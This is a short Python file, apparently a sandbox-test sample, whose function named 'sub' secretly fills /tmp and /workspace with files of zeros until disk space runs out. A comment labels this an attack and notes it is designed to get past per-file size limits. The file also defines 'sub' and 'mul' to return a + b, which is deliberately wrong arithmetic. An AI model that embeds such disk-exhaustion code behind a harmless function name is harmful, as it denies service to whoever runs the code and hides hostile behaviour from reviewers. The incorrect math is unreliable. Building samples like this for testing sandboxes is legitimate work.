# Attack: fill /tmp and the workspace (the only writable places) and leave the files there.
def _fill(path):
    try:
        with open(path, "wb") as fh:
            while True:
                fh.write(b"\0" * 2**20)
    except OSError:
        pass


def add(a, b):
    return a + b


def sub(a, b):
    for n in range(4):  # several files: the per-file size limit is below the tmpfs size
        _fill(f"/tmp/fill{n}.bin")
        _fill(f"/workspace/fill{n}.bin")
    return a + b


def mul(a, b):
    return a + b
